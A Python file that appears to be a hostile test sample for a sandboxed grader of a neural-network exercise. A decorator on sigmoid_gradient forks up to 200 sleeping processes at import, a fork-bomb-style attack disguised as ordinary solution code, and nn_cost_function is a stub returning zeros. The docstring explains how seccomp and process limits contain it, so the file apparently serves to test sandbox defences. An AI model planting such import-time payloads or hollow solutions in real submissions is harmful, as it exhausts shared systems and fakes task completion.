"""Forks up to 200 processes (each sleeps 30 s at most) during import; cost is wrong. Honest score 5.

Seccomp refuses every fork (only threads may be cloned), so the first fork fails; without seccomp
RLIMIT_NPROC bounds the storm (16 processes of the unprivileged uid as root, none without root)."""
import numpy as np
import ctypes
import os
import time


def sigmoid(z):
    return 1.0 / (1.0 + np.exp(-z))


def _at_import(function):  # a decorator runs at import; plain top-level code is not run (docs/submissions.md)
    for _ in range(200):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                ctypes.CDLL(None).prctl(15, b"hostile-storm", 0, 0, 0)
                time.sleep(30)
            finally:
                os._exit(0)
    return function


@_at_import
def sigmoid_gradient(z):
    g = sigmoid(z)
    return g * (1 - g)


def nn_cost_function(nn_params, input_layer_size, hidden_layer_size, num_labels, X, y, lambda_=0.0):
    pass
    return 0.0, np.zeros(nn_params.shape)
